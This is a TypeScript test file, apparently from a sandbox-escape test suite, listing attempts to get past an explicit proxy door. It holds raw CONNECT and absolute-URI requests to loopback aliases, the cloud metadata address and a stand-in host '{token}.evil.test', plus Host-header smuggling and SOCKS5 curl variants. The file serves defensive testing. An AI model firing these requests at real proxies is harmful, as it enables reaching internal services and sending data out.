// Attempts by the explicit-proxy door: whoever asks a proxy outside to connect must get no further than by connecting.
import type { Attempt } from '../attempt.ts'
import { declaredHost } from './declared.ts'

const theme = 'declared'

/** Where every sealed run of this suite has it. */
export const doorPort = 3128
const door = `127.0.0.1:${doorPort}`
const loopbacks = [
  '127.0.0.1',
  '[::1]',
  '127.8.8.8',
  '0.0.0.0',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::127.0.0.1]',
  '2130706433',
  '0x7f.1',
  '127.1',
  'localhost',
  'localhost.',
  'a.localhost',
]
const others = ['{v4}', '[{v6}]', '{own4}', '[{own6}]', '{gateway4}', '169.254.169.254', '[64:ff9b::7f00:1]', '{token}.evil.test']

/** What the attacker would do to the door itself has no counterpart without a seal. */
const tunnels: readonly Attempt[] = [
  ...[...loopbacks, ...others].map((host) =>
    asking(`CONNECT to ${host}`, [`CONNECT ${host}:{port} HTTP/1.1\r\nHost: ${declaredHost}\r\n\r\n`, '{token}']),
  ),
  ...[...loopbacks.slice(0, 3), ...others].map((host) =>
    asking(`an absolute URI of ${host}`, [`GET http://${host}:{port}/{token} HTTP/1.1\r\nHost: ${host}:{port}\r\n\r\n`]),
  ),
  ...['127.0.0.1', '[::1]', 'localhost', '{v4}', '{own4}', '{token}.evil.test'].map((host) =>
    curl(`SOCKS5 to ${host}`, ['--socks5-hostname', door, `http://${host}:{port}/{token}`]),
  ),
]

const evil = '{token}.evil.test'
const disagreements: readonly Attempt[] = [
  asking('CONNECT to the allowed host, and a request for another', [
    `CONNECT ${declaredHost}:80 HTTP/1.1\r\nHost: ${declaredHost}\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: ${evil}\r\n\r\n`,
  ]),
  asking('CONNECT to the allowed host, and a request for an absolute URI of another', [
    `CONNECT ${declaredHost}:80 HTTP/1.1\r\nHost: ${declaredHost}\r\n\r\n`,
    `GET http://${evil}/ HTTP/1.1\r\nHost: ${evil}\r\n\r\n`,
  ]),
  asking('CONNECT to the allowed host, and CONNECT to another', [
    `CONNECT ${declaredHost}:80 HTTP/1.1\r\nHost: ${declaredHost}\r\n\r\n`,
    `CONNECT {v4}:{port} HTTP/1.1\r\nHost: ${evil}\r\n\r\n`,
    '{token}',
  ]),
  asking('an absolute URI of the allowed host with the Host of another', [`GET http://${declaredHost}/ HTTP/1.1\r\nHost: ${evil}\r\n\r\n`]),
  asking('a second request for another host on the same connection', [
    `GET http://${evil}/ HTTP/1.1\r\nHost: ${evil}\r\n\r\nGET http://{v4}:{port}/{token} HTTP/1.1\r\nHost: {v4}:{port}\r\n\r\n`,
  ]),
  curl('another server name in a tunnel to the allowed host', [
    '-k',
    '-x',
    `http://${door}`,
    '--connect-to',
    `::${declaredHost}:443`,
    `https://${evil}/`,
  ]),
  asking('a request for https in clear', [`GET https://${evil}/{token} HTTP/1.1\r\nHost: ${evil}\r\n\r\n`]),
]

export const doorAttempts: readonly Attempt[] = [...tunnels, ...disagreements]

function asking(name: string, send: readonly string[]): Attempt {
  // Shows that somebody is at the door.
  const recorded = name === 'CONNECT to {v4}'
  return { name: `the door: ${name.replaceAll(/[{}]/g, '')}`, theme, sealOnly: true, recorded, attack: [{ do: 'tcp', to: door, send }] }
}

function curl(name: string, words: readonly string[]): Attempt {
  return {
    name: `the door: ${name.replaceAll(/[{}]/g, '')}`,
    theme,
    sealOnly: true,
    attack: [{ do: 'run', argv: ['curl', '-sS', '-m', '2', '--noproxy', '', ...words] }],
  }
}
